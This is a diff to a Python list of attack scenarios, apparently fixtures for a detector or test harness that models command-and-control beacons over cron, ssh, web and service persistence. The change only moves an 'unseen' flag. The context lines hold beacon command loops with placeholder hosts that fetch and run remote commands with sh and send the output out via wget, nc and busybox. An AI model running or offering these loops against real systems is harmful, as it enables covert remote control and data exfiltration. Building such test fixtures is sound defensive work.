@@ -233,8 +233,7 @@ ATTACKS = [
            "sh @D@/t >@D@/r; wget -qO /dev/null --post-file=@D@/r http://@H@:@P@/r; done",
            needs=("wget",), live=True),
     Attack("beacon_python_service", "H", "beacon", "service", "http", "python3 @D@/telemetry.py",
-           needs=("python3",), files={"telemetry.py": PYTHON_BEACON}, live=True,
-           unseen=POLLS),
+           needs=("python3",), files={"telemetry.py": PYTHON_BEACON}, live=True),
     Attack("beacon_perl_cron", "H", "beacon", "cron", "http", "perl @D@/h.pl",
            files={"h.pl": PERL_BEACON}),
     Attack("beacon_node_ssh", "H", "beacon", "ssh", "http", "node @D@/metrics.js &",
@@ -242,14 +241,14 @@ ATTACKS = [
     Attack("beacon_bash_web", "H", "beacon", "web", "one_by_one", "bash @D@/b",
            files={"b": BASH_BEACON}, live=True),
     Attack("beacon_c_cron", "H", "beacon", "cron", "one_by_one", "@D@/z @H@ @P@ g 1",
-           needs=("implant",), files={"z": "copy:@C@/implant"}, speaks=PROGRAM),
+           needs=("implant",), files={"z": "copy:@C@/implant"}, speaks=PROGRAM,
+           unseen=POLLS),
     Attack("beacon_nc_files_ssh", "H", "beacon", "ssh", "half",
            "while sleep 0.4; do nc.openbsd -w 60 @H@ @P@ </dev/null >@D@/c && [ -s @D@/c ] && "
            "sh @D@/c | nc.openbsd -N @H@ @Q@; done 2>/dev/null", needs=("nc.openbsd",),
            unseen=POLLS),
     Attack("beacon_datagrams_cron", "H", "beacon", "cron", "udp_poll", "python3 @D@/ntp.py",
-           needs=("python3",), files={"ntp.py": PYTHON_DATAGRAM_BEACON},
-           unseen=POLLS),
+           needs=("python3",), files={"ntp.py": PYTHON_DATAGRAM_BEACON}),
     Attack("beacon_busybox_service", "H", "beacon", "service", "http",
            "busybox sh @D@/i", needs=("busybox",), files={"i":
                "while sleep 0.5; do c=$(busybox wget -qO- http://@H@:@P@/task); "
